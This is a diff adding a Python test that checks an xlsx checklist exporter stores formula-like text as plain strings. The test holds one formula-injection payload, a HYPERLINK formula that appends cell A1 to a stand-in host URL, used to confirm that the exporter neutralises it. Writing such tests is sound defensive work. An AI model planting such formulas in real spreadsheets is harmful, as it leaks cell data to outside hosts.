@@ -149,3 +149,24 @@ def test_missing_openpyxl_names_the_install_line(tmp_path, cli, monkeypatch):
     res = cli("checklist", str(src), "--output", str(tmp_path / "c.xlsx"))
     assert res.rc == 2
     assert res.err.strip().count("\n") == 0 and "pip install 'jcstar-agent[checklist]'" in res.err
+
+
+def test_text_that_looks_like_a_formula_stays_text(tmp_path, cli):
+    evil = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
+
+    def mutate(d):
+        d["criteria"][0]["reason"] = evil
+    src, _ = _report_file(tmp_path, mutate)
+    out = tmp_path / "c.xlsx"
+    assert cli("checklist", str(src), "--output", str(out), "--product-name", evil).rc == 0
+    import zipfile
+
+    with zipfile.ZipFile(out) as z:  # the stored XML: a formula would be an <f> element
+        sheets = [z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/")]
+    assert len(sheets) == 2 and not [x for x in sheets if "<f>" in x or "<f " in x]
+    wb = openpyxl.load_workbook(out)
+    looks = [c for ws in wb for row in ws.iter_rows() for c in row
+             if isinstance(c.value, str) and c.value.startswith("=")]
+    assert len(looks) == 2 and all(c.data_type == "s" for c in looks)
+    info, rows = _cells(out)
+    assert info["製品名 (product)"] == evil and rows[1][4].startswith(evil)
